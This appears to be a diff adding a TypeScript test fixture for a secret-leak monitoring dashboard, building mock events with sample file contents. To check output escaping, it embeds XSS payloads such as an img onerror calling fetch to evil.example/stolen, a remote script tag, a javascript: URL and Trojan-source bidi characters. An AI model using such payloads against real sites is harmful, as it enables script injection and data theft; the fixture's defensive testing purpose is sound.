@@ -1,0 +1,87 @@
+import type { EventRow } from '@leakwatch/contracts';
+import type { EventStatus } from '@leakwatch/vocabulary';
+import { minutesAgo, mockId } from '../ids.ts';
+
+/** Where hostile content would call home, were it ever more than text. */
+export const FOREIGN_HOST = 'https://evil.example';
+
+/** `file_content` as the events service makes it, plain and hostile. */
+export const CONTENTS = {
+  plain: [
+    'import os',
+    '',
+    'SMTP_HOST = &quot;mail.<mark>corp.example</mark>&quot;',
+    'SMTP_<mark>password</mark> = &quot;Zx7-not-a-real-one-41&quot;',
+    '',
+    'def connect():',
+    '    return os.environ.get(&quot;SMTP_HOST&quot;, SMTP_HOST)',
+  ].join('\n'),
+  cyrillic: ['# Доступ к стенду', 'адрес: <mark>portal.corp.example</mark>', '<mark>пароль</mark>: не-настоящий', ''].join('\n'),
+  hostile: [
+    `&lt;img src=x onerror=&quot;fetch(&#39;${FOREIGN_HOST}/stolen&#39;)&quot;&gt; <mark>corp.example</mark>`,
+    `&lt;script src=&quot;${FOREIGN_HOST}/a.js&quot;&gt;&lt;/script&gt; &amp;lt;b&amp;gt;`,
+    // Markup that a broken server forgot to escape must not become markup here either.
+    `<img src="${FOREIGN_HOST}/b.png" onerror="window.hacked = true">`,
+    'access_level = &quot;user\u202e \u2066// admin\u2069 \u2066&quot;; zero\u200bwidth \u0007',
+  ].join('\n'),
+  long: `{&quot;token&quot;:&quot;${'a1b2c3d4'.repeat(60)}&quot;,&quot;host&quot;:&quot;<mark>corp.example</mark>&quot;}`,
+};
+
+const STATUSES: readonly EventStatus[] = [
+  'open',
+  'open',
+  'open',
+  'in_progress',
+  'open',
+  'fixed',
+  'open',
+  'false',
+  'open',
+  'blacklist',
+  'open',
+  'auto_filtered',
+];
+const FILES = ['settings/mail.py', 'docs/стенд.md', 'web/index.html', 'deploy/values.json'] as const;
+const LANGUAGES = ['Python', 'Markdown', 'HTML', 'JSON'] as const;
+const TEXTS = [CONTENTS.plain, CONTENTS.cyrillic, CONTENTS.hostile, CONTENTS.long] as const;
+
+/** The event of that number; the higher, the newer. */
+export function makeEvent(number: number, over: Partial<EventRow> = {}): EventRow {
+  const kind = number % 4;
+  const status = STATUSES[number % STATUSES.length] ?? 'open';
+  const path = FILES[kind] ?? '';
+  const repo = kind === 2 ? 'javascript:alert(1)' : 'https://git.example/team/billing';
+  return {
+    id: mockId(1, number),
+    status,
+    owner_status: number % 7 !== 6,
+    same_file: number % 5 === 3,
+    sim_count: number % 4 === 1 ? 5 : 0,
+    source_type: number % 6 === 5 ? 'github' : 'git_repo',
+    pattern: kind === 1 ? 'portal.corp.example пароль' : 'corp.example password',
+    filter_keywords: number % 3 === 0 ? ['test', 'sample', 'dummy', 'fixture', 'mock', 'draft', 'demo'] : [],
+    task: mockId(2, (number % 3) + 1),
+    task_name: `Monitoring of billing ${(number % 3) + 1}`,
+    created: minutesAgo(600 - number * 7),
+    updated_at: minutesAgo(600 - number * 7),
+    last_seen: minutesAgo(30),
+    username: 'team',
+    avatar_url: `${FOREIGN_HOST}/avatar.png`,
+    repo_name: 'team/billing',
+    repo_url: repo,
+    file_url: `https://git.example/team/billing/blob/main/${encodeURI(path)}`,
+    file_path: path,
+    file_lang: LANGUAGES[kind] ?? '',
+    file_content: TEXTS[kind] ?? '',
+    segments: [{ index: 0, line: 10 + number }],
+    line: 12 + number,
+    commit: '4f2a9c1de07b6a35c8f19e0d2b7a64c3f5e81d90',
+    commit_author: 'Ирина Коваль <irina@corp.example>',
+    commit_date: minutesAgo(90_000),
+    status_changes: status === 'open' ? {} : { '1795000000': { actor: 'kovalenko', new_status: status } },
+    comments: [],
+    regex_tokens_found: kind === 3 ? [{ id: mockId(7, 1), name: 'Generic API token', hint: '48+ hex digits', regex: '[a-f0-9]{48,}' }] : [],
+    backup_storage_status: 'in_storage',
+    ...over,
+  };
+}
